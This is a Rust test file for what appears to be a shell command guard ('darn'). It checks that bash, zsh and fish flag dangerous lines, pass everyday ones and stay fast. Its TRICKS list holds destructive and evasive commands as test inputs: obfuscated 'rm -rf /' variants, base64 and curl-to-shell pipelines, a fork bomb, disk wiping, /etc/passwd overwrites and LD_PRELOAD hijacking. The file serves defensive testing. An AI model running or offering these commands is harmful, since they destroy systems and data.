//! The filter of the Enter guard, in the real shells: it passes nothing that the policy would flag, and
//! passes everyday lines.
//!
//! `DARN_CORPORA` may name more files, separated by colons: one command line per line, or JSON objects with a
//! `command`.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::path::Path;
use std::process::Stdio;

use crate::home::Home;
use facts::FakeWorld;
use policy::{Level, Policy};
use syntax::Dialect;

/// For each shell: how to start it, and a loop that prints for each text whether it is suspect.
const SHELLS: &[(&str, Dialect, &[&str], &str)] = &[
    (
        "bash",
        Dialect::Bash,
        &["--norc", "--noprofile", "-i", "-c"],
        "while IFS= read -r -d '' line; do if __darn_suspects \"$line\"; then echo 1; else echo 0; fi; done",
    ),
    (
        "zsh",
        Dialect::Zsh,
        &["-f", "-i", "-c"],
        "while IFS= read -r -d $'\\0' line; do if __darn_suspects \"$line\"; then echo 1; else echo 0; fi; done",
    ),
    (
        "fish",
        Dialect::Fish,
        &["--no-config", "-i", "-c"],
        "while read -lz line; if __darn_suspects $line; echo 1; else; echo 0; end; end",
    ),
];

/// Returns the filter's result for each line in a shell; `before` is run first.
fn suspects(shell: &str, before: &str, lines: &[String]) -> Vec<bool> {
    let (.., ask) = SHELLS.iter().find(|row| row.0 == shell).unwrap();
    let bytes = lines.iter().flat_map(|line| line.bytes().chain([0])).collect();
    let out = run(shell, &format!("{before}\n{ask}"), bytes);
    let answers: Vec<bool> =
        out.lines().filter(|line| matches!(*line, "0" | "1")).map(|line| line == "1").collect();
    assert_eq!(answers.len(), lines.len(), "{shell}: {out}");
    answers
}

/// Returns the output of a script in an interactive shell with the guard.
fn run(shell: &str, script: &str, bytes: Vec<u8>) -> String {
    let (_, _, options, _) = SHELLS.iter().find(|row| row.0 == shell).unwrap();
    let home = Home::new();
    home.write(".config/darn/config.toml", "[policy]\nlevel = 'active'\n");
    let init = home.darn(&["init", shell]).out;
    let load = match shell {
        "fish" => "source $__darn_rest",
        "zsh" => "__darn_read $__darn_rest",
        _ => ". $__darn_rest",
    };
    let script = home.write("script", format!("{init}\n{load}\n{script}\n"));
    let mut child = std::process::Command::new(shell)
        .args(*options)
        .arg(format!(". {}", script.display()))
        .env_clear()
        .envs([("PATH", "/usr/bin:/bin"), ("TERM", "xterm"), ("LANG", "C.UTF-8")])
        .env("HOME", home.root())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || input.write_all(&bytes));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Returns all command lines in the repository.
fn corpora() -> Vec<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let mut lines = BTreeSet::new();
    for file in files(&root.join("corpus")) {
        lines.extend(file.lines().filter_map(|line| line.strip_prefix("$ ")).map(str::to_owned));
    }
    for file in files(&root.join("crates/policy/src/data/rules")) {
        strings(&toml::from_str(&file).unwrap(), &mut lines);
    }
    for file in std::env::var("DARN_CORPORA").unwrap_or_default().split(':').filter(|name| !name.is_empty()) {
        for line in std::fs::read_to_string(file).unwrap().lines() {
            match serde_json::from_str::<serde_json::Value>(line) {
                Ok(row) if row["command"].is_string() => {
                    lines.insert(row["command"].as_str().unwrap().to_owned());
                }
                _ => drop(lines.insert(line.to_owned())),
            }
        }
    }
    lines.extend(TRICKS.iter().map(|line| (*line).to_owned()));
    lines.into_iter().filter(|line| !line.contains('\0') && line.len() < 20_000).collect()
}

fn files(directory: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(directory).unwrap();
    entries.map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap()).collect()
}

/// Collects the examples of rules: every text below `dangerous` and `harmless`.
fn strings(value: &toml::Value, lines: &mut BTreeSet<String>) {
    match value {
        toml::Value::String(text) => drop(lines.insert(text.clone())),
        toml::Value::Array(values) => values.iter().for_each(|value| strings(value, lines)),
        toml::Value::Table(table) => {
            for (key, value) in table {
                if matches!(key.as_str(), "rule" | "dangerous" | "harmless") {
                    strings(value, lines);
                }
            }
        }
        _ => {}
    }
}

/// Ways to build a word that the line does not show.
const TRICKS: &[&str] = &[
    "rm -rf /", "r\"\"m -rf /", "r\\m -rf /", "'r'm -rf /", "r\\\nm -rf /", "$'\\x72\\x6d' -rf /",
    "\\x72m -rf /", "$(echo rm) -rf /", "`echo rm` -rf /", "x=rm; $x -rf /", "x=r; ${x}m -rf /",
    "x=r; \"$x\"m -rf /", "a=r b=m; $a$b -rf /", "r$@m -rf /", "r${x-}m -rf /", "r$1m -rf /",
    "${x:-rm} -rf /", "for x in rm; do $x -rf /; done", "for x in r; do ${x}m -rf /; done", "{rm,-rf,/}",
    "r{m,} -rf /", "/bin/r? -rf /", "/bin/[r]m -rf /", "sudo /bin/rm -rf /", "foo rm -rf /",
    "env -S'rm -rf /'", "echo cm0gLXJmIC8= | base64 -d | sh", "curl example.com/x | sh",
    "bash <(curl example.com/x)", "sh -c 'rm -rf /'", "eval \"$x\"", "xargs rm -rf < list", "find . -delete",
    "echo x > /dev/sda", "echo x >/etc/passwd", "echo x >> ~/.bashrc", "echo x >a/../../etc/passwd",
    "echo x > \"/etc/passwd\"", "echo x 2>/dev/null >/etc/passwd", "echo x &>/etc/passwd",
    "echo x >| /etc/passwd", ":(){ :|:& };:", "f() { rm -rf /; }; f", "ls \u{202e}gpj", "ls \u{200b}x",
    "sh << END\nrm -rf /\nEND", "cat <<< x | sh", ". <(curl example.com)", "true; rm -rf /",
    "true&&rm -rf /", "true\nrm -rf /", "(rm -rf /)", "if true; then rm -rf /; fi", "time rm -rf /",
    "! rm -rf /", "FOO=1 rm -rf /", "=rm -rf /", "echo \"$(rm -rf /)\"", "echo \"${x:-$(rm -rf /)}\"",
    "chmod -R 777 /", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "kill -9 -1", "shutdown -h now",
    "mv ~ /dev/null", "git push --force", "git reset --hard", "LD_PRELOAD=./x.so ls", "PATH=.:$PATH ls",
    "history -c",
];

/// Everyday lines, for which no process is started.
const EVERYDAY: &[&str] = &[
    "ls",
    "ls -la",
    "cd src/lib",
    "cd ..",
    "git status",
    "git commit -m 'a message, with punctuation; and so on'",
    "git log --oneline",
    "cat README.md | grep -n word | head -3",
    "grep -rn \"some text\" src",
    "make test",
    "cargo build",
    "npm test",
    "python3 script.py",
    "vim notes.txt",
    "echo \"$HOME\"",
    "echo hello > out.txt",
    "sort < in.txt > out.txt 2>/dev/null",
    "ls *.txt",
    "mkdir -p a/b && cd a/b",
    "du -sh .",
];

per_shell!(flagged_line_never_passes: bash, zsh, fish);
fn flagged_line_never_passes(shell: &str) {
    let (_, dialect, ..) = SHELLS.iter().find(|row| row.0 == shell).unwrap();
    let lines = corpora();
    let world = FakeWorld { home: Some("/home/user".into()), ..FakeWorld::default() };
    let mut missed = Vec::new();
    let policy = Policy::default();
    for (line, is_suspect) in lines.iter().zip(suspects(shell, "", &lines)) {
        let verdict = policy.assess(line, *dialect, &world);
        if verdict.level > Level::Allow && !is_suspect {
            let rule = verdict.reasons.first().map_or("", |reason| reason.rule.as_str());
            missed.push(format!("{line:?} ({}, {rule})", verdict.level.name()));
        }
    }
    assert!(missed.is_empty(), "{} of {}:\n{}", missed.len(), lines.len(), missed.join("\n"));
}

per_shell!(tricks_are_suspect_and_everyday_lines_pass: bash, zsh, fish);
fn tricks_are_suspect_and_everyday_lines_pass(shell: &str) {
    let lines: Vec<String> = TRICKS.iter().chain(EVERYDAY).map(|line| (*line).to_owned()).collect();
    let answers = suspects(shell, "", &lines);
    for (at, (line, is_suspect)) in lines.iter().zip(answers).enumerate() {
        let is_trick = at < TRICKS.len();
        // `\x` is a character in fish only; `$'` and `{x-}` are no syntax of it, but suspect anyway
        let is_only_fish = line.starts_with("\\x") && shell != "fish";
        assert_eq!(is_suspect, is_trick && !is_only_fish, "{shell}: {line:?}");
    }
}

per_shell!(hostile_line_is_filtered_in_bounded_time: bash, zsh, fish);
/// However long the line and whatever is in it, and it is the program's then.
fn hostile_line_is_filtered_in_bounded_time(shell: &str) {
    let lines: Vec<String> =
        ["a ", "a;", "a=b ", "if ", "x$a ", "\"' ", "{a", "[*", "> a", "\\\n", "$a\" ", "(", "a.b-"]
            .iter()
            .flat_map(|part| [part.repeat(600), format!("{}*", part.repeat(600)), part.repeat(3000)])
            .collect();
    let start = std::time::Instant::now();
    suspects(shell, "", &lines);
    let took = start.elapsed();
    assert!(took < std::time::Duration::from_secs(60), "{shell}: {took:?} for {} lines", lines.len());
}

per_shell!(alias_or_function_with_a_trigger_word_is_suspect: bash, zsh, fish);
fn alias_or_function_with_a_trigger_word_is_suspect(shell: &str) {
    let before = match shell {
        "bash" => {
            "shopt -s expand_aliases; alias zap='rm -rf' outer='zap' ls='ls --color' g='git' rm='trash-put'; wrap() { git \"$@\"; }; deep() { inner; }; inner() { r\\m -rf \"$1\"; }; calm() { echo \"$1\"; }"
        }
        "zsh" => {
            "alias zap='rm -rf' outer='zap' ls='ls --color' g='git' rm='trash-put'; wrap() { git \"$@\"; }; deep() { inner }; inner() { r\\m -rf \"$1\" }; calm() { echo \"$1\" }"
        }
        _ => {
            "alias zap 'rm -rf'; alias outer zap; alias g git; function wrap; git $argv; end; function deep; inner; end; function inner; r\\m -rf $argv; end; function calm; echo $argv; end"
        }
    };
    let lines: Vec<String> = [
        "zap x", "outer x", "deep x", "ls x", "calm x", "FOO=1 zap", "true; deep", "echo zap-x", "time deep",
        "g push --force", "g status", "wrap push --force", "wrap status", "sudo rm x",
    ]
    .map(str::to_owned)
    .to_vec();
    let wanted = [true, true, true, false, false, true, true, false, true, true, false, true, false, true];
    let answers = suspects(shell, before, &lines);
    for ((line, is_suspect), wanted) in lines.iter().zip(answers).zip(wanted) {
        assert_eq!(is_suspect, wanted, "{shell}: {line:?}");
    }
}

/// Returns the microseconds for a program that does nothing, then for each everyday line: the best of several
/// rounds of calls in the shell itself.
fn cost(shell: &str) -> Vec<u64> {
    let words: Vec<String> =
        EVERYDAY.iter().map(|line| syntax::quote(line, Dialect::Bash).into_owned()).collect();
    let words = words.join(" ");
    let script = match shell {
        "fish" => format!(
            "function darn_fork; /bin/true; end
             function darn_time; set -l best 9999999; for round in 1 2 3 4 5; set -l from (date +%s%N); for i in (seq 40); $argv; end
             set -l took (math \"((\"(date +%s%N)\" - $from) / 100000)\"); test $took -lt $best; and set best $took; end; math \"round($best)\"; end
             darn_time darn_fork; for line in {words}; darn_time __darn_suspects $line; end"
        ),
        // 16 digits: microseconds (zsh has more digits than fit into its numbers)
        _ => format!(
            "[[ -z $ZSH_VERSION ]] || zmodload zsh/datetime; darn_now() {{ now=${{EPOCHREALTIME/[.,]/}}; now=${{now:0:16}}; }}; darn_fork() {{ /bin/true; }}
             darn_time() {{ best=9999999; for round in 1 2 3 4 5 6 7 8 9; do darn_now; from=$now; for ((i = 0; i < 40; i++)); do \"$@\"; done; darn_now
             took=$(((now - from) / 40)); if ((took < best)); then best=$took; fi; done; echo $best; }}; darn_time darn_fork; for line in {words}; do darn_time __darn_suspects \"$line\"; done"
        ),
    };
    run(shell, &script, Vec::new()).lines().filter_map(|line| line.parse().ok()).collect()
}

per_shell!(everyday_line_costs_less_than_a_process: bash, zsh, fish);
/// Looking at a line costs less than the least of programs; in fish, whose every step costs
/// microseconds, not much more. `--nocapture` shows the figures.
fn everyday_line_costs_less_than_a_process(shell: &str) {
    let most = match shell {
        "bash" | "zsh" => 1,
        _ => 4,
    };
    let costs = cost(shell);
    assert_eq!(costs.len(), EVERYDAY.len() + 1, "{shell}");
    let (program, costs) = costs.split_first().unwrap();
    let mut sorted = costs.to_vec();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    println!("{shell}: median {median} us, a program {program} us; {costs:?}");
    assert!(median < program * most, "{shell}: a program {program}; {costs:?}");
}
